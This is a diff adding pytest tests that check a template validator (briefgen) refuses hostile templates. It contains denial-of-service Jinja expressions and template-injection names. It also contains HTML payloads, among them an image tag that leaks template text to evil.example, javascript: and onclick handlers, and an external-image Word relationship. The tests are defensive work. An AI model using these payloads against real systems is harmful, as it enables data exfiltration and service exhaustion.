@@ -2,11 +2,17 @@
 
 from __future__ import annotations
 
+import contextlib
 import shutil
+import subprocess
+import sys
+import time
 from pathlib import Path
 
 import docx
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from briefgen.render import BUILTIN_TEMPLATE_IDS, TemplateLibrary, validate_template
 from briefgen.render.templates.validate import TemplateProblem
@@ -91,3 +97,204 @@ def test_the_template_guide_documents_every_name_a_layout_can_use() -> None:
 
     guide = (builtin_templates_dir() / "README.md").read_text(encoding="utf-8")
     assert [n for n in sorted(CONTEXT_NAMES) if f"`{n}`" not in guide] == []
+
+
+@pytest.mark.parametrize(
+    ("body", "message"),
+    [
+        ("{{ 9**(9**9) }}", "raises a number to a power"),
+        ("{{ 2.0**99999 }}", "constant expression fails"),
+        ("{{ '%0999999999d'|format(1) }}", "width or precision over 1,000"),
+        ("{{ 'a'*10**9 }}", "longer than 1,000,000"),
+        ("{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
+         "range of 100,000 numbers"),
+        ("{{ 'ab'*10**8 }}", "longer than 1,000,000"),
+        ("{{ 1 // 0 }}", "constant expression fails"),
+    ],
+)
+def test_a_constant_a_render_would_refuse_is_refused_at_once_with_its_line(
+        tmp_path: Path, body: str, message: str) -> None:
+    from support.hostile_templates import template_folder
+
+    folder = template_folder(tmp_path, "hostile", body=body)
+    started = time.monotonic()
+    problems = validate_template(folder)
+    assert time.monotonic() - started < 5
+    assert problems
+    assert all(p.file == f"{folder}/memo.html" and p.line for p in problems)
+    assert message in problems[0].message
+
+
+def test_a_word_file_of_unclosed_tags_is_refused_in_bounded_time(tmp_path: Path) -> None:
+    from support.hostile_templates import in_document, paragraph, template_folder
+
+    folder = template_folder(tmp_path, "tags",
+                             docx_edit=in_document(paragraph("{{p x " * 8000)))
+    started = time.monotonic()
+    problems = validate_template(folder)
+    assert time.monotonic() - started < 5
+    assert [p.message[:60] for p in problems] == [
+        "the template has a tag that is not closed before the next on"]
+
+
+@settings(max_examples=40, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(pieces=st.lists(st.sampled_from(["{{", "}}", "{%", "%}", "{#", "#}", "p ", "x",
+                                        "</w:t><w:t>", " "]), max_size=400))
+def test_any_run_of_tag_marks_is_checked_in_linear_time(pieces: list[str]) -> None:
+    from briefgen.errors import TemplateError
+    from briefgen.render.docx_writer import check_tag_spans
+
+    xml = "".join(pieces) * 50
+    started = time.monotonic()
+    with contextlib.suppress(TemplateError):
+        check_tag_spans(xml, "word/document.xml")
+    assert time.monotonic() - started < 1
+
+
+def test_a_manifest_of_20000_fields_is_refused_at_once(tmp_path: Path) -> None:
+    from support.hostile_templates import template_folder
+
+    fields = "".join(f'\n[[fields]]\nname = "f{i}"\n' for i in range(20_000))
+    folder = template_folder(tmp_path, "fields", manifest_extra=fields)
+    started = time.monotonic()
+    problems = validate_template(folder)
+    assert time.monotonic() - started < 2
+    assert "larger than 256,000 bytes" in problems[0].message
+
+
+@pytest.mark.parametrize(
+    ("title", "message"),
+    [
+        (b"{{ self }}", "forbidden name 'self'"),
+        (b"{{ lipsum() }}", "forbidden name 'lipsum'"),
+        (b"{{ nosuchname }}", "uses 'nosuchname', which briefgen does not provide"),
+    ],
+)
+def test_core_properties_are_checked_like_the_body(tmp_path: Path, title: bytes,
+                                                   message: str) -> None:
+    from support.hostile_templates import core_title, template_folder
+
+    folder = template_folder(tmp_path, "props", docx_edit=core_title(title))
+    problems = validate_template(folder)
+    assert len(problems) == 1
+    assert problems[0].file == f"{folder}/memo.docx (docProps/core.xml title)"
+    assert message in problems[0].message
+
+
+@pytest.mark.parametrize(
+    ("body", "reason"),
+    [
+        ("<script>alert(1)</script>", "it holds a <script> element"),
+        ('<img src="http://evil.example/x?{{ summary.text }}">', "it loads 'src'"),
+        ('<p onclick="steal()">x</p>', "the event handler 'onclick'"),
+        ('<a href="javascript:steal()">x</a>', "javascript: address"),
+        ('<link rel="stylesheet" href="https://cdn.example/x.css">', "links a stylesheet"),
+        ("<style>p { background: url(http://evil.example/p.png) }</style>", "url()"),
+        ('<meta http-equiv="refresh" content="0;url=http://evil.example">', "refresh"),
+        ("{{ summary.text|safe }}", "the filter 'safe'"),
+        ("{% autoescape false %}{{ summary.text }}{% endautoescape %}", "autoescaping off"),
+    ],
+)
+def test_scripts_external_references_and_unescaped_text_are_refused_with_the_line(
+        tmp_path: Path, body: str, reason: str) -> None:
+    from support.hostile_templates import template_folder
+
+    folder = template_folder(tmp_path, "active", body="\n" + body)
+    lines = (folder / "memo.html").read_text(encoding="utf-8").splitlines()
+    line = next(i for i, text in enumerate(lines, 1) if body.split("\n")[0] in text)
+    problems = validate_template(folder)
+    assert problems
+    assert problems[0].file == f"{folder}/memo.html"
+    assert problems[0].line == line
+    assert reason in problems[0].message
+
+
+def test_a_word_file_with_an_external_image_or_attached_template_is_refused(
+        tmp_path: Path) -> None:
+    from support.hostile_templates import template_folder
+
+    def external(name: str, data: bytes) -> bytes:
+        if name == "word/_rels/document.xml.rels":
+            return data.replace(b"</Relationships>", (
+                b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
+                b'officeDocument/2006/relationships/image" Target="http://evil.example/p.png"'
+                b' TargetMode="External"/></Relationships>'))
+        return data
+
+    folder = template_folder(tmp_path, "ext", docx_edit=external)
+    problems = validate_template(folder)
+    assert [p.message for p in problems] == [
+        "refused because it refers to the external image 'http://evil.example/p.png': a memo "
+        "holds no external reference"]
+
+
+# A script for a fresh interpreter: validate and import each package given, then print
+# the longest time one took; its parent reads the child's peak memory.
+_MEASURE = """
+import sys, time, tempfile
+from pathlib import Path
+from briefgen.errors import TemplateError
+from briefgen.render import TemplateLibrary, validate_template
+worst = 0.0
+for path in sys.argv[1:]:
+    started = time.monotonic()
+    problems = validate_template(Path(path))
+    try:
+        TemplateLibrary(user_dir=Path(tempfile.mkdtemp())).import_package(Path(path))
+    except TemplateError:
+        pass
+    worst = max(worst, time.monotonic() - started)
+# VmHWM: this program's own peak (ru_maxrss would carry over the parent's from fork).
+status = Path("/proc/self/status")
+if status.exists():
+    peak = next(int(l.split()[1]) for l in status.read_text().splitlines()
+                if l.startswith("VmHWM:"))
+else:
+    import resource
+    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+print(worst, peak)
+"""
+
+
+def test_validate_and_import_of_every_hostile_example_stay_within_5_s_and_300_mb(
+        tmp_path: Path) -> None:
+    from support.hostile_templates import (
+        core_title,
+        in_document,
+        package,
+        paragraph,
+        template_folder,
+    )
+
+    bodies = ["{{ 9**(9**9) }}", "{{ 2.0**99999 }}", "{{ '%0999999999d'|format(1) }}",
+              "{{ 'a'*10**9 }}", "{{ 'ab'*10**8 }}",
+              "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}"
+              "{% endfor %}"]
+    folders = [template_folder(tmp_path / "src", f"b{i}", body=b)
+               for i, b in enumerate(bodies)]
+    folders.append(template_folder(tmp_path / "src", "tags",
+                                   docx_edit=in_document(paragraph("{{p x " * 8000))))
+    folders.append(template_folder(
+        tmp_path / "src", "fields",
+        manifest_extra="".join(f'\n[[fields]]\nname = "f{i}"\n' for i in range(20_000))))
+    folders.append(template_folder(tmp_path / "src", "props", docx_edit=core_title(
+        b"{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}")))
+    paths = [str(package(f, tmp_path / f"{f.name}.brieftemplate")) for f in folders]
+    result = subprocess.run([sys.executable, "-c", _MEASURE, *paths], capture_output=True,
+                            text=True, timeout=120, check=True)
+    worst_seconds, peak_kb = result.stdout.split()
+    assert float(worst_seconds) < 5
+    assert int(peak_kb) < 300_000  # the peak resident memory of the whole process
+
+
+def test_footnotes_are_checked_like_the_body(tmp_path: Path) -> None:
+    from support.hostile_templates import FOOTNOTES_XML, add_entry, template_folder, with_footnote
+
+    folder = template_folder(tmp_path, "notes", docx_edit=with_footnote("{{ self }}"))
+    add_entry(folder / "memo.docx", "word/footnotes.xml",
+              FOOTNOTES_XML.format(text="{{ self }}").encode())
+    problems = validate_template(folder)
+    assert [(p.file, p.message[:45]) for p in problems] == [
+        (f"{folder}/memo.docx (word/footnotes.xml)",
+         "refused because it uses the forbidden name 's")]
